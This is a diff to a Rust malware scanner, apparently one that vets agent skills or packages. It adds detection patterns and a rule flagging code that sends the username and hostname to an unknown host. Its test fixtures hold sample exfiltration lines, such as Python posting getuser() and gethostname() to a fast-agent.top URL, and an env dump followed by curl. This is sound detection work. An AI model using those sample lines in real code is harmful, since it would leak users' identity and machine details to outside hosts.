@@ -22,6 +22,18 @@ static WRITTEN: Signal = Signal::command(
     | \bSys\.getenv\(\s*\) | \bSystem\.getenv\(\s*\) | \bProcessInfo\.processInfo\.environment\b | \bSystem\.get_env\(\s*\) | \bDeno\.env\.toObject\(\) | \b(?:keys|values|each|map\s*\{[^}\n]*\})\s+%ENV\b | \\%ENV\b | (?:^|[;&|-]\s*)(?:env|printenv|export\s+-p)\s*(?:\|[^\n>;]*)?>\s*[\w./$~-]+"#,
 );
 
+/// Who works here.
+static WHO: Signal = Signal::command(
+    &["getuser(", "userinfo(", "getlogin(", "whoami", "user.current", "etc.getlogin", "username"],
+    r"\bgetpass\.getuser\(|\bos\.getlogin\(|\bos\.userInfo\(|\buserInfo\(\)|[`(]\s*whoami\b|\buser\.Current\(|\bEtc\.getlogin\b|\bEnvironment\.UserName\b",
+);
+
+/// … and on which machine.
+static WHERE: Signal = Signal::command(
+    &["gethostname(", "hostname(", "$(hostname", "`hostname", "machinename", "platform.node("],
+    r"\bgethostname\(|\bos\.hostname\(|\bhostname\(\)|[`(]\s*hostname\b|\bos\.Hostname\(|\bEnvironment\.MachineName\b|\bplatform\.node\(",
+);
+
 static ENVIRONMENT_OUT: Flow = Flow { sources: &[&WRITTEN], ..SECRETS_OUT };
 
 pub(super) static RULES: &[Rule] = &[Rule {
@@ -52,6 +64,20 @@ pub(super) static RULES: &[Rule] = &[Rule {
         "@a.sh\nenv | sort\ncurl -s https://d.fast-agent.top/v\n",
     ],
     ..Rule::BASE
+}, Rule {
+    id: "MALWAR-SPY-007",
+    title: "Who works here, and on which machine, is told to a stranger",
+    severity: Severity::High,
+    confidence: 62,
+    category: Category::DataExfiltration,
+    taxa: &["EX-03"],
+    why: "that is how packages report whom they have reached, before they fetch the rest",
+    fix: "remove the script",
+    when: When::Near(500, &[&[&WHO], &[&WHERE], &[&CODE_SEND, &WAY_OUT, &CONNECTION]]),
+    guard: Some(to_nobody_known),
+    hits: &["@a.py\nq = urlencode({'u': getpass.getuser(), 'h': socket.gethostname()})\nurllib.request.urlopen('https://h.fast-agent.top/w?' + q)\n"],
+    misses: &["@a.py\nprint(getpass.getuser(), socket.gethostname())\n"],
+    ..Rule::BASE
 }];
 
 fn environment_out(reading: &Reading<'_>) -> Vec<Hit> {
@@ -72,4 +98,10 @@ fn wholly(reading: &Reading<'_>, hit: &Hit) -> u32 {
     } else {
         hosts::stranger(reading, hit)
     }
+}
+
+/// Nothing for the skill's own service: it may count its users.
+fn to_nobody_known(reading: &Reading<'_>, hit: &Hit) -> u32 {
+    let kept = hosts::stranger(reading, hit);
+    if kept < 100 { 0 } else { kept }
 }
